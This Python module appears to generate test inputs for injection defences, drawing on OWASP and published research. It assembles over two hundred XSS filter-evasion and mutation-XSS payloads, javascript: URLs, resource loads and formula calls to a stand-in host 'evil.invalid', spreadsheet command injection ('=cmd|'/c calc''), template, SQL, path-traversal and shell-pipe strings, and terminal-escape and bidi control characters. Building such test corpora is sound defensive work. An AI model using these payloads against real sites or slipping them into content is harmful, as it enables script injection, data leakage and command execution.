"""Two hundred and more texts that would run, load, forge or garble something wherever text is taken for more than text.

Each tries to set an attribute of the page (`RUN`), or to ask `THERE` for something. They are made from parts: what
ends a place, what runs in it, how that is written. The kinds are those of the usual lists (OWASP, "XSS Filter Evasion";
Heyes, "Mutation XSS"; OWASP, "CSV Injection"; Boucher and Anderson, "Trojan Source").
"""

from __future__ import annotations

import base64
import html
from itertools import product
from urllib.parse import quote

RUN = "document.documentElement.setAttribute('data-ran','yes')"
HAS_RUN = "document.documentElement.dataset.ran ?? ''"
THERE = "evil.invalid"

BARE = f"<script>{RUN}</script>"
CORES = (BARE, f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>")
ENDS = (
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</textarea>",
    "</template>",
    "</script>",
    "</svg>",
    '\\">',
    "`>",
)

ON = (
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    '<img src=x onerror="RUN">',
    "<IMG SRC=x OnErRoR=RUN>",
    "<img src=x:x onerror\n=\nRUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg\x0conload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=x to=y onbegin=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script>RUN",
    "<svg><script xlink:href=data:,RUN />",
    "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x'>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>",
    "<iframe onload=RUN>",
    "<object data=x onerror=RUN>",
    "<link rel=stylesheet href=x onerror=RUN>",
    "<style onload=RUN></style>",
    "<p contenteditable onblur=RUN autofocus>",
    "<x onanimationstart=RUN style=animation:x>",
    "<x tabindex=1 autofocus onfocus=RUN>",
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script\n>RUN</script\n>",
    "<script type=module>RUN</script>",
    "<script src=data:,RUN>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<script>RUN",
    "<script/x>RUN</script/x>",
    "' onmouseover=RUN autofocus onfocus=RUN x='",
    '" onmouseover=RUN autofocus onfocus=RUN x="',
    " autofocus onfocus=RUN x=",
    "x onanimationend=RUN",
)

LED = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "\x01javascript:RUN",
    " javascript:RUN",
    "javascript&colon;RUN",
    "javascript://x%0aRUN",
    "&#106;avascript:RUN",
    "vbscript:RUN",
    "view-source:javascript:RUN",
    "data:text/html,<script>RUN</script>",
    'https://ostra.example/?q="onmouseover=RUN x="',
)
HOLDERS = ("{}", "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "[words]({})")

ASKED = (
    "<base href=//THERE/>",
    "<link rel=stylesheet href=//THERE/x.css>",
    "<link rel=prefetch href=//THERE/>",
    "<link rel=dns-prefetch href=//THERE>",
    "<script src=//THERE/x.js></script>",
    "<img src=//THERE/p.png>",
    "<meta http-equiv=refresh content='0;url=//THERE'>",
    "<object data=//THERE></object>",
    "<embed src=//THERE>",
    "<form action=//THERE><button autofocus>x",
    "<video poster=//THERE/x>",
    "<img srcset='//THERE/x 2x'>",
    "<svg><image href=//THERE/x></svg>",
    "<input type=image src=//THERE/x>",
    "<a ping=//THERE href=x>x</a>",
    "<table background=//THERE/x>",
    "<style>@import '//THERE/x.css'</style>",
    "</style><style>*{background:url(//THERE/x)}",
    "<p style='background:url(//THERE/x)'>x",
    '<p style="width:expression(RUN)">',
    "*{background:url(//THERE/x)}",
    "@import url(//THERE/x.css);",
    "@font-face{font-family:x;src:url(//THERE/x)}",
    "}body{background:url(//THERE/x)}",
    "![x](//THERE/x.png)",
    "![x](https://THERE/x.png 'x')",
    "[x]: https://THERE/",
    "<https://THERE/>",
    "//THERE/",
    "[![x](https://THERE/x.png)](javascript:RUN)",
    "\\\\THERE\\share",
    "file://THERE/etc/passwd",
)

CHANGED = (
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<math><mtext></p><style><img src=x onerror=RUN>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "<xmp><script>RUN</script>",
    "<plaintext>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>",
    "<textarea><img title='</textarea><img src=x onerror=RUN>'>",
    "<template><img src=x onerror=RUN></template>",
    "<iframe srcdoc='<script>parent.RUN</script>'>",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml ?><svg onload=RUN>",
    "<title><img title='</title><img src=x onerror=RUN>'>",
    "<table><td background=x><img src=x onerror=RUN></table>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<a id=page href=x><a id=page name=x>",
    "<form id=main><input name=id>",
    "<img name=getElementById>",
    "<u id=q1>x</u><a href=#c1>x</a>",
    "__proto__",
    "</main></body></html>",
)

FILLED = (
    "{{ 7*7 }}",
    "{{constructor.constructor('RUN')()}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in y %}",
    "{# x",
    "${RUN}",
    "#{7*7}",
    "<%= 7*7 %>",
    "@(7*7)",
    "{0.__class__.__init__}",
    "%(x)s %s %n",
    "[[${7*7}]]",
    "';RUN;//",
    '");RUN;//',
    "`);RUN;//",
    "\u2028RUN\u2029",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "$(RUN)",
    "`RUN`",
    "'; DROP TABLE reports; --",
    "../../../etc/passwd",
    "| touch /tmp/x",
    "--help",
    "[bold red]x[/] [link=//THERE]x[/link]",
)

COUNTED = (
    "=1+1",
    '=HYPERLINK("http://THERE","x")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    ";=1+1",
    "x;=1+1",
    "x\n=1+1",
    "＝1+1",
    "＋1+1",
    "−1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '=IMPORTXML("http://THERE","//a")',
    "%0A=1+1",
    '";=1+1;"',
    '=WEBSERVICE("http://THERE")',
)

SIGNS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://THERE\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x9d0;t\x9c",
    "\x1b[2J\x1b[H",
    "\x1bc",
    "\x1b[8mhidden",
    "a\x08\x08b",
    "a\x7fb",
    "a\rb",
    "\x1bP$q\x1b\\",
    "\x07\x07",
    "\u202edekcol\u202c",
    "\u2066x\u2069",
    "\u2067x",
    "\u200fx\u200e",
    "\u061cx",
    "a\u200bb\u200cc\u200dd",
    "\u00adx",
    "\ufeffx",
    "\U000e0041\U000e0042",
    "z\u0335\u0336\u0337\u0338a",
    "\ud7ff\ufffe\uffff",
    "\u2028x\u2029x",
    "\x85x",
    "\x00x",
)


def _written() -> list[str]:
    """One script, written in ways that somebody may read back."""
    points = "".join(f"&#{ord(c)}" for c in BARE)
    return [
        html.escape(BARE),
        html.escape(html.escape(BARE)),
        quote(BARE),
        quote(quote(BARE)),
        points,
        points.replace("&#", "&#0000"),
        "".join(f"&#x{ord(c):x};" for c in BARE),
        "".join(f"\\x{ord(c):02x}" for c in BARE),
        "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-",
        BARE.translate({ord("<"): "＜", ord(">"): "＞"}),
        BARE.translate({ord("<"): "‹", ord(">"): "›"}),
        "data:text/html;base64," + base64.b64encode(BARE.encode()).decode(),
        BARE.replace("<", "%3C").replace(">", "%3E"),
        BARE.replace("<", "\\3c "),
        BARE.replace("<", "¼").replace(">", "¾"),
    ]


def table() -> list[str]:
    """All of them, each once."""
    ended = [end + core for end, core in product(ENDS, CORES)]
    led = [holder.format(one) for one, holder in product(LED, HOLDERS)]
    parts = (*ON, *ended, *led, *ASKED, *CHANGED, *FILLED, *_written(), *COUNTED, *SIGNS)
    return list(dict.fromkeys(one.replace("RUN", RUN).replace("THERE", THERE) for one in parts))
